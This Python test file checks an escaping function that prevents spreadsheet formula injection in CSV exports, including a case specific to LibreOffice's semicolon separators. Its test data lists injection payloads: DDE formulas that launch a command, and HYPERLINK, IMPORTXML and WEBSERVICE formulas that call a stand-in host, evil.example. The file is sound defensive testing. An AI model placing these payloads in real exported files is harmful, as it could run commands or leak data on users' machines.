"""Promise C8: forty beginnings that some spreadsheet computes, and what must stay as it is."""

import csv
from io import StringIO

import pytest

from palier.adapters.shared.cells import harmless, table_writer

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠"]
CALLS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "  @x",
    "\u00a0=1",
    "\u3000＝1",
    "\ufeff=1",
    '"=1+1"',
    "'=1+1",
    '" =1',
    "=",
    "%0A=1",
    "|calc",
    "＝1＋1",
    "＠SUM",
    "-",
]
PLAIN = ["", "ok", "été", "a=b", "1+1", "12.5", "PAL-1", "x@acme.example", "L’API", "(=1)", "2026-01-01", "«=»"]


@pytest.mark.parametrize("cell", [*SIGNS, *CALLS])
def test_nothing_is_computed_and_the_words_stay_readable(cell: str) -> None:
    assert len({*SIGNS, *CALLS}) >= 38
    written = harmless(cell)
    assert (written[0], written.replace("'", "")) == ("'", cell.replace("'", ""))
    assert harmless(f"{cell} ")[0] == "'"


@pytest.mark.parametrize("cell", PLAIN)
def test_what_computes_nothing_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x; -2", "x;' -2"),
        ('x;"=1+1"', 'x;\'"=1+1"'),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("=1;=2", "'=1;'=2"),
        ("a; b; c", "a; b; c"),
        ("a, -b", "a, -b"),
    ],
)
def test_no_cell_that_a_french_spreadsheet_would_begin_within_another_is_computed(cell: str, written: str) -> None:
    """LibreOffice with semicolons among its separators computed these."""
    assert harmless(cell) == written


def test_every_cell_stands_between_quotes() -> None:
    kept = StringIO(newline="")
    table_writer(kept).writerow(["a;b", 7, 'say "x"'])
    assert kept.getvalue() == '"a;b","7","say ""x"""\r\n'


def test_a_table_comes_back_as_it_was_written() -> None:
    rows = [[harmless(each), "7"] for each in (*SIGNS, *CALLS, *PLAIN)]
    kept = StringIO(newline="")
    table_writer(kept).writerows(rows)
    assert list(csv.reader(StringIO(kept.getvalue(), newline=""))) == rows
